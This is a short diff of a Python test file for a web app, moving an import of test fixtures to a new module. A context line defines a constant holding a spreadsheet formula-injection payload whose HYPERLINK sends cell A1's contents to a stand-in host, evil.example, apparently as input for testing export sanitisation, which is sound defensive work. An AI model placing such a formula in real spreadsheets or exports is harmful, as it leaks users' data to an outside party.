@@ -15,8 +15,8 @@ from app.extensions import db
 from app.models import SelectionRun
 from tests.app.conftest import sign_in_as
 from tests.app.helpers import Client, press
-from tests.app.runs.conftest import CRITERIA, SITES, Pool, build_pool
 from tests.app.runs.helpers import decisions, run_id_from
+from tests.app.world import CRITERIA, SITES, Pool, build_pool
 
 EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
 
